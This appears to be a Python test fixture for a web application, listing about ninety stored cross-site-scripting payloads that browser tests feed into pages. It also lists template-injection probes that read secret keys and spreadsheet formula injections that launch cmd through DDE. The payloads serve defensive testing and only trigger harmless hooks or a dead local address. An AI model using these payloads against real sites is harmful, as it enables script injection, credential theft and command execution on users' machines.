"""Hostile text for the stored-XSS tests: what a tip (or a rogue inspector) may type.

Every payload that could run calls a hook the browser tests watch for: `alert(1)` (and friends),
`window.__xss=1`, or a request to MARKER_URL (an address no test server listens on, carrying
MARKER). `kind` says how a payload is judged when it is put into a page *without* escaping
(the sanity test in test_xss_browser.py):

- "html": in at least one markup context (text, quoted or unquoted attribute, textarea, title,
  script string) it runs or leaves a dangerous element/attribute behind, so the detectors must trip;
- "text": inert even raw (encodings, template syntax, look-alikes): it must merely come back as
  typed, never decoded, evaluated or normalised into something else;
- "csv": spreadsheet formulas: shown as typed in HTML, neutralised in the CSV exports.
"""

from dataclasses import dataclass

MARKER = "xss7m4rk"
MARKER_URL = f"http://127.0.0.1:9/{MARKER}"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    kind: str = "html"


def _p(name: str, text: str, kind: str = "html") -> Payload:
    return Payload(name, text, kind)


PAYLOADS: list[Payload] = [
    # --- script tags
    _p("script", "<script>alert(1)</script>"),
    _p("script-mixed-case", "<ScRiPt>window.__xss=1</sCrIpT>"),
    _p("script-src", f"<script src={MARKER_URL}.js></script>"),
    _p("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _p("script-attrs", '<script type="text/javascript" >confirm(1);</script >'),
    # --- event handlers
    _p("img-onerror", "<img src=x onerror=alert(1)>"),
    _p("img-onerror-quoted", '<img src="x" onerror="window.__xss=1">'),
    _p("svg-onload", "<svg onload=alert(1)>"),
    _p("svg-slash-onload", "<svg/onload=alert(1)//"),
    _p("body-onload", "<body onload=alert(1)>"),
    _p("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    _p("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    _p("select-autofocus", "<select autofocus onfocus=window.__xss=1></select>"),
    _p("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    _p("audio-onerror", "<audio src=x onerror=prompt(1)>"),
    _p("marquee-onstart", "<marquee onstart=alert(1)>m</marquee>"),
    _p("iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    _p("entity-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    _p("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    # --- SVG and MathML, namespace confusion
    _p("svg-script", "<svg><script>alert(1)</script></svg>"),
    _p("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _p("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    _p("svg-foreignobject", "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>"),
    _p("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    _p("math-xlink", '<math><mi xlink:href="javascript:alert(1)">m</mi></math>'),
    _p("svg-style-confusion", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    _p("math-style", "<math><style><img src=x onerror=alert(1)></style></math>"),
    _p("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _p("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    # --- javascript:, data:, vbscript: URLs
    _p("a-javascript", '<a href="javascript:alert(1)">click</a>'),
    _p("a-javascript-tab", '<a href="jav&#x09;ascript:alert(1)">tab</a>'),
    _p("a-javascript-entity", '<a href="&#106;avascript:alert(1)">ent</a>'),
    _p("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    _p("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    _p("object-javascript", '<object data="javascript:alert(1)"></object>'),
    _p("object-data", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    _p("embed-data-svg", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    _p("a-vbscript", '<a href="vbscript:msgbox(1)">vb</a>'),
    _p("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    _p("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    _p("base-href", f'<base href="{MARKER_URL}/">'),
    # --- CSS
    _p("style-expression", '<div style="width:expression(alert(1))">css</div>'),
    _p("style-import", f"<style>@import '{MARKER_URL}.css';</style>"),
    _p("style-url-javascript", '<div style="background:url(javascript:alert(1))">bg</div>'),
    _p("link-stylesheet", f"<link rel=stylesheet href={MARKER_URL}.css>"),
    _p("style-background", f'<style>*{{background:url("{MARKER_URL}.png")}}</style>'),
    # --- broken and unclosed markup, attribute breakouts
    _p("attr-dq-script", '"><script>alert(1)</script>'),
    _p("attr-sq-img", "'><img src=x onerror=alert(1)>"),
    _p("js-string-breakout", "'-alert(1)-'"),
    _p("textarea-breakout", "</textarea><script>alert(1)</script>"),
    _p("title-breakout", "</title><script>alert(1)</script>"),
    _p("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    _p("cdata", "<![CDATA[<]]><script>alert(1)</script>"),
    _p("unclosed-img", "<img src=x onerror=alert(1)//"),
    _p("attr-dq-handler", '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="'),
    _p("attr-sq-handler", "' onfocus='alert(1)' autofocus x='"),
    _p("attr-backtick", "x` onfocus=alert(1) autofocus y=`"),
    _p("backtick-handler", "<img src=`x` onerror=`${alert(1)}`>"),
    # --- Unicode and encoding tricks
    _p("fullwidth-script", "＜script＞alert(1)＜/script＞", "text"),
    _p("line-separators", "\u2028<script>alert(1)</script>\u2029"),
    _p("js-line-separators", "'\u2028alert(1)\u2029'", "text"),
    _p("zero-width", "<scr\u200dipt>alert(1)</scr\u200dipt>\u200b\u2060\ufeff", "text"),
    _p("zero-width-handler", "<img src=x onerror=\u200balert(1)>"),
    _p("rtl-override", "\u202e<svg onload=alert(1)>gpj.exe"),
    _p("html-entities", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "text"),
    _p("named-entities", "&lt;img src=x onerror=alert(1)&gt; &amp;lt; &quot;", "text"),
    _p("percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "text"),
    _p("double-percent", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "text"),
    _p("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text"),
    _p("js-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cimg\\x3e", "text"),
    _p("control-chars", "\x01\x08\x0b\x0c\x1b[31m<b>ctl</b>\x7f\x9b", "text"),
    _p("combining-emoji", "<img src=x onerror=alert(1)>🙂\u0301\U0001f3f3\ufe0f\u200d\U0001f308"),
    _p("plain-javascript-url", "javascript:alert(1)", "text"),
    _p("plain-data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "text"),
    # --- template injection
    _p("jinja-expr", "{{7*7}}", "text"),
    _p("jinja-config", "{{ config }}{{ config.SECRET_KEY }}{{ self.__init__.__globals__ }}", "text"),
    _p("jinja-raw", "{% raw %}{{7*7}}{% endraw %}{% for x in range(3) %}{{x}}{% endfor %}", "text"),
    _p("dollar-expr", "${7*7}", "text"),
    _p("hash-expr", "#{7*7}", "text"),
    _p("erb-expr", "<%= 7*7 %>", "text"),
    _p("angular-sandbox", "{{constructor.constructor('alert(1)')()}}", "text"),
    # --- polyglots
    _p("polyglot-0xsobky",
       "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/"
       "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e"),
    _p("polyglot-short", "\"'><svg/onload=alert(1)>"),
    _p("polyglot-closers", "'\"--></style></script><script>alert(1)</script>"),
    _p("polyglot-details", "-->'\"/></sCript><deTailS open x=\">\" ontoggle=alert(1)>"),
    # --- CSV formula injection
    _p("csv-cmd", "=cmd|' /C calc'!A0", "csv"),
    _p("csv-plus", "+1+cmd|' /C calc'!A0", "csv"),
    _p("csv-minus", "-2+3+cmd|' /C calc'!A0", "csv"),
    _p("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0", "csv"),
    _p("csv-tab", "\t=1+1", "csv"),
    _p("csv-hyperlink", f'=HYPERLINK("{MARKER_URL}?"&A1,"Click")', "csv"),
    _p("csv-dde", '=DDE("cmd";"/C calc";"!A0")', "csv"),
]

# NUL cannot be stored (PostgreSQL) and no browser sends it: the sites turn it into U+FFFD before
# any view sees it (app/inputs.py). Sent only through HTTP, by the test client.
NUL_PAYLOAD = _p("nul-split", "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x one\x00rror=alert(1)>")


def as_submitted(text: str) -> str:
    """What the sites keep of a typed text: NUL becomes U+FFFD (app/inputs.py)."""
    return text.replace("\x00", "\ufffd")


def by_name(name: str) -> Payload:
    return next(p for p in [*PAYLOADS, NUL_PAYLOAD] if p.name == name)


assert len({p.name for p in PAYLOADS}) == len(PAYLOADS), "payload names must be unique"
